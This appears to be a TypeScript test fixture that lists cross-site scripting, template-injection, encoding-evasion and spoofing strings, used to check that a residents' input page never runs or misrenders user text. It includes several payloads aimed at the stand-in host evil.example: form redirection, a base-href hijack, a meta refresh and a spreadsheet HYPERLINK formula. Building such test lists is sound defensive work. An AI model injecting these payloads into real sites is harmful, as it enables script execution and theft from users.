// What residents may write that a careless page would run, follow or show as something else.

const tags = [
  'img src=x onerror=MARK',
  'svg onload=MARK',
  'body onload=MARK',
  'iframe src=javascript:MARK',
  'video src=x onerror=MARK',
];
export const PAYLOADS: readonly string[] = [
  ...tags.flatMap((tag) => [
    `<${tag}>`,
    `"><${tag}>`,
    `'><${tag}>`,
    `</textarea><${tag}>`,
    `</title><${tag}>`,
    `--><${tag}>`,
  ]),
  '<script>MARK</script>',
  '</script><script>MARK</script>',
  '<scr<script>ipt>MARK</scr</script>ipt>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=q></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=MARK>',
  '<noscript><p title="</noscript><img src=x onerror=MARK>">',
  '<template><script>MARK</script></template>',
  '<a href="javascript:MARK">点我</a>',
  '<a href="data:text/html,<script>MARK</script>">点我</a>',
  '[点我](javascript:MARK)',
  '![图](x" onerror="MARK)',
  'javascript:MARK',
  'JaVaScRiPt:MARK//',
  '{{constructor.constructor("MARK")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody may write
  '${MARK}',
  '#{MARK}',
  '<%= MARK %>',
  '&lt;img src=x onerror=MARK&gt;',
  '&#60;script&#62;MARK&#60;/script&#62;',
  '\\u003cscript\\u003eMARK\\u003c/script\\u003e',
  '%3Cscript%3EMARK%3C/script%3E',
  '=HYPERLINK("//evil.example","点我")',
  '＜script＞MARK＜/script＞',
  '漏水\u202egnp.exe\u202c了',
  '零宽\u200b\u200d\ufeff字',
  `很长${'啊'.repeat(600)}`,
  `没有空格${'x'.repeat(600)}`,
];

/** What must never run, in its place. */
export const withMark = (text: string) => text.replaceAll('MARK', 'window.hurt=(window.hurt||0)+1');
